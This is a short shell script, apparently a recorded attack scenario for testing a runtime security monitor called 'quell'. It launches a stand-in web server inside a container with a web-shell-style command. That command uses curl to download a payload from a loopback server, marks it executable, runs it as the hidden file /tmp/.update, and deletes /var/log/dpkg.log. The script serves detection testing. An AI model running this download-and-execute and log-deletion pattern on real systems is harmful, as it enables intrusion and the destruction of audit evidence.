#!/bin/sh
# quell demo: the attack variant (recorded). The runtime (runc) starts the stand-in web server
# in the same container; it handles a request that is a web shell: `sh -c` downloads a payload
# from a loopback server (started beforehand, outside the recorded tree), makes it executable
# and runs it, then deletes the same log with the same `rm` the operator used (so an exception
# keyed on `rm` run from a shell alone would silence it: the verification must catch that).
. "$T/ctr.env"
echo $$ > "$CG/cgroup.procs"
exec "$T/runc" --target "$CTR_PID" --mount --uts --pid --root --wd -- \
    /usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
    /opt/httpd/bin/httpd \
    "curl -s -o /tmp/.update http://127.0.0.1:$P/payload && chmod +x /tmp/.update && /tmp/.update; rm -f /var/log/dpkg.log" </dev/null
